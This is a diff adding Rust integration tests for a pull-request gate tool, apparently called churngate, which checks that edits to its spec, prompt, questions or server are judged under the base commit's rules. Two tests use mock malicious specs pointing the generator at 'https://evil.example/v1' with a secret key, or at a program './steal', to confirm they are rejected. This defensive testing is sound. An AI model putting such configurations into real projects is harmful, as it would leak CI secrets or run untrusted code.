@@ -1,0 +1,237 @@
+//! The rule of a pull request is the base's: a change of spec, prompt, questions or server is judged under the version of
+//! the base commit, and told.
+
+#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]
+
+use std::path::Path;
+use std::process::{Command, Output};
+use tempfile::TempDir;
+
+const SPEC: &str = "\
+version: 1
+name: rule
+questions: { file: questions.jsonl }
+snapshots:
+  old: { git: base, path: corpus }
+  new: { path: corpus }
+retrieve: { bm25: {}, top_k: 3 }
+generate: { reader: {}, repeats: 2, prompt: prompt.txt }
+judge: { embedded: {} }
+gate:
+  incompatible_when:
+    - exact: { at_least: 3pp }
+  compatible_when:
+    - semantic: { upper_bound_below: 5pp }
+  inconclusive: fail
+";
+
+const QUESTIONS: &str = r#"{"id": "q1", "question": "Since which version does Chrome support widgets?"}
+{"id": "q2", "question": "Since which version does Safari support gadgets?"}
+"#;
+
+/// A repository whose base has this spec, and a change to it in the working tree, committed.
+struct Repository {
+    folder: TempDir,
+    base: String,
+}
+
+impl Repository {
+    fn new(files: &[(&str, &str)]) -> Self {
+        let folder = tempfile::tempdir().unwrap();
+        git(folder.path(), &["init", "--quiet", "--initial-branch=main"]);
+        let mut repository = Self { folder, base: String::new() };
+        repository.write("corpus/a.md", "Since version 12 Chrome supports widgets.");
+        repository.write("corpus/b.md", "Since version 7 Safari supports gadgets.");
+        repository.base = repository.commit(files);
+        repository
+    }
+
+    fn whole() -> Self {
+        let prompt = std::fs::read_to_string("src/freeze/prompts/answer.txt");
+        let prompt = prompt.unwrap_or_else(|_| churngate::freeze::prompts::ANSWER.to_owned());
+        Self::new(&[("churngate.yaml", SPEC), ("questions.jsonl", QUESTIONS), ("prompt.txt", &prompt)])
+    }
+
+    fn write(&self, name: &str, text: &str) {
+        let path = self.folder.path().join(name);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    }
+
+    fn read(&self, name: &str) -> String {
+        std::fs::read_to_string(self.folder.path().join(name)).unwrap()
+    }
+
+    fn commit(&self, files: &[(&str, &str)]) -> String {
+        for (name, text) in files {
+            self.write(name, text);
+        }
+        git(self.folder.path(), &["add", "--all"]);
+        let identity = ["-c", "user.name=a", "-c", "user.email=a@example.org"];
+        git(self.folder.path(), &[&identity[..], &["commit", "--quiet", "--allow-empty", "--message=x"]].concat());
+        git(self.folder.path(), &["rev-parse", "HEAD"])
+    }
+
+    fn churngate(&self, arguments: &[&str]) -> Output {
+        let mut command = Command::new(env!("CARGO_BIN_EXE_churngate"));
+        command.current_dir(self.folder.path()).args(arguments).env_remove("GITHUB_ACTIONS").env_remove("KEY");
+        command.output().unwrap()
+    }
+
+    /// Runs under the base's rule: exit code, and the report as Markdown.
+    fn audit(&self) -> (Option<i32>, String) {
+        let base = format!("--base={}", self.base);
+        let output = self.churngate(&["run", "--quiet", &base, "--folder-file=.folder"]);
+        let folder = std::fs::read_to_string(self.folder.path().join(".folder")).unwrap_or_default();
+        let report = std::fs::read_to_string(self.folder.path().join(folder).join("report.md"));
+        let said = String::from_utf8_lossy(&output.stderr).into_owned();
+        let report = report.map(|report| report.split("```").next().unwrap_or_default().to_owned());
+        (output.status.code(), report.unwrap_or(said))
+    }
+}
+
+fn git(folder: &Path, arguments: &[&str]) -> String {
+    let output = Command::new("git").current_dir(folder).args(arguments).output().unwrap();
+    assert!(output.status.success(), "git {arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
+    String::from_utf8(output.stdout).unwrap().trim().to_owned()
+}
+
+#[test]
+fn an_unchanged_rule_is_not_mentioned() {
+    let repository = Repository::whole();
+    repository.commit(&[("corpus/a.md", "Since version 13 Chrome supports widgets.")]);
+    let (code, report) = repository.audit();
+    assert!(matches!(code, Some(1 | 3)), "{code:?} {report}");
+    assert!(!report.contains("This change edits"), "{report}");
+}
+
+#[test]
+fn a_looser_gate_is_told_and_not_used() {
+    let repository = Repository::whole();
+    let looser = SPEC.replace("at_least: 3pp", "at_least: 99pp").replace("inconclusive: fail", "inconclusive: pass");
+    repository.commit(&[("churngate.yaml", &looser)]);
+    let (code, report) = repository.audit();
+    assert_eq!(code, Some(3), "two questions prove nothing, and the base says that this fails: {report}");
+    assert!(report.contains("This change edits `churngate.yaml` (gate) but"), "{report}");
+    assert!(report.contains("≥ 3 pp") && !report.contains("99 pp"), "{report}");
+}
+
+#[test]
+fn another_question_file_prompt_or_server_is_told_and_not_used() {
+    let repository = Repository::whole();
+    let prompt = repository.read("prompt.txt").replacen(' ', "  ", 1);
+    repository.commit(&[("questions.jsonl", "{\"id\": \"easy\", \"question\": \"Easy?\"}\n"), ("prompt.txt", &prompt)]);
+    let (_, report) = repository.audit();
+    assert!(report.contains("edits `questions.jsonl` but"), "{report}");
+    assert!(report.contains("edits `prompt.txt` but"), "{report}");
+    let asked = repository.read(".folder");
+    assert!(!repository.read(&format!("{asked}/result.json")).contains("easy"));
+
+    let elsewhere = SPEC.replace(
+        "generate: { reader: {},",
+        "generate: { openai: { model: m, base_url: \"https://evil.example/v1\", key_env: KEY },",
+    );
+    repository.commit(&[("churngate.yaml", &elsewhere)]);
+    let (code, report) = repository.audit();
+    assert_eq!(code, Some(3), "the base's reader needs no key: {report}");
+    assert!(report.contains("`churngate.yaml` (generate)"), "{report}");
+}
+
+#[test]
+fn a_comment_in_the_spec_is_no_edit_and_a_removed_spec_is_one() {
+    let repository = Repository::whole();
+    repository.commit(&[("churngate.yaml", &format!("# Hello.\n{SPEC}"))]);
+    assert!(!repository.audit().1.contains("This change edits"));
+    std::fs::remove_file(repository.folder.path().join("churngate.yaml")).unwrap();
+    repository.commit(&[]);
+    let (code, report) = repository.audit();
+    assert_eq!(code, Some(3));
+    assert!(report.contains("`churngate.yaml` (removes it)"), "{report}");
+}
+
+#[test]
+fn without_a_rule_on_the_base_the_audit_is_exploratory_and_neutral() {
+    for missing in ["churngate.yaml", "questions.jsonl", "prompt.txt"] {
+        let mut repository = Repository::whole();
+        let text = repository.read(missing);
+        std::fs::remove_file(repository.folder.path().join(missing)).unwrap();
+        repository.base = repository.commit(&[]);
+        repository.commit(&[(missing, &text), ("corpus/a.md", "Since version 13 Chrome supports widgets.")]);
+        let (code, report) = repository.audit();
+        assert_eq!(code, Some(0), "{missing}: {report}");
+        assert!(report.contains("Exploratory: base commit"), "{report}");
+    }
+}
+
+#[test]
+fn a_first_rule_may_use_no_key_no_server_and_no_program() {
+    let programs = [
+        "generate: { command: { argv: [\"./steal\"] },",
+        "generate: { openai: { model: m, base_url: \"https://evil.example/v1\", key_env: KEY },",
+    ];
+    for program in programs {
+        let mut repository = Repository::whole();
+        std::fs::remove_file(repository.folder.path().join("churngate.yaml")).unwrap();
+        repository.base = repository.commit(&[]);
+        repository.commit(&[("churngate.yaml", &SPEC.replace("generate: { reader: {},", program))]);
+        let (code, said) = repository.audit();
+        assert_eq!(code, Some(2), "{said}");
+        assert!(said.contains("calls servers or programs") && said.contains("merge the spec"), "{said}");
+    }
+}
+
+#[test]
+fn an_old_snapshot_in_the_tree_that_the_change_edits_is_told() {
+    let spec = SPEC.replace("old: { git: base, path: corpus }", "old: { path: old }");
+    let mut repository = Repository::whole();
+    repository.base = repository.commit(&[("churngate.yaml", &spec), ("old/a.md", "Since version 12.")]);
+    repository.commit(&[("old/a.md", "Since version 13.")]);
+    let (_, report) = repository.audit();
+    assert!(report.contains("This change edits old (which the rule relies on"), "{report}");
+}
+
+#[test]
+fn the_base_of_a_snapshot_is_the_merge_base() {
+    let repository = Repository::whole();
+    repository.commit(&[("corpus/c.md", "One more document.")]);
+    let checked = repository.churngate(&["check", &format!("--base={}", repository.base)]);
+    let said = String::from_utf8_lossy(&checked.stdout).into_owned();
+    assert!(checked.status.success(), "{said}{}", String::from_utf8_lossy(&checked.stderr));
+    assert!(said.contains("2 documents") && said.contains("3 documents"), "{said}");
+    // Without a pull request, `base` is what was last committed.
+    repository.write("corpus/d.md", "Not committed yet.");
+    let checked = repository.churngate(&["check"]);
+    let said = String::from_utf8_lossy(&checked.stdout).into_owned();
+    assert!(said.contains("3 documents") && said.contains("4 documents"), "{said}");
+}
+
+#[test]
+fn a_base_that_is_not_there_says_what_to_do() {
+    let repository = Repository::whole();
+    let output = repository.churngate(&["run", "--base", &"d".repeat(40)]);
+    assert_eq!(output.status.code(), Some(2));
+    let said = String::from_utf8_lossy(&output.stderr).into_owned();
+    assert!(said.contains("hint:"), "{said}");
+}
+
+#[test]
+fn init_writes_what_check_accepts_and_overwrites_nothing() {
+    let folder = tempfile::tempdir().unwrap();
+    git(folder.path(), &["init", "--quiet"]);
+    let repository = Repository { folder, base: String::new() };
+    let none = repository.churngate(&["init"]);
+    assert_eq!(none.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&none.stderr).contains("--corpus"));
+    repository.commit(&[("docs/a.md", "A document."), ("README.md", "x")]);
+    let output = repository.churngate(&["init"]);
+    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+    assert_eq!(repository.read("questions.jsonl").lines().count(), 10);
+    assert!(repository.read(".github/workflows/churngate.yml").contains("permissions: {}"));
+    let checked = repository.churngate(&["check"]);
+    assert!(checked.status.success(), "{}", String::from_utf8_lossy(&checked.stderr));
+    let before = repository.read("churngate.yaml");
+    std::fs::remove_file(repository.folder.path().join("questions.jsonl")).unwrap();
+    assert_eq!(repository.churngate(&["init"]).status.code(), Some(2));
+    assert_eq!(repository.read("churngate.yaml"), before);
+    assert!(!repository.folder.path().join("questions.jsonl").exists(), "either all or nothing");
+}
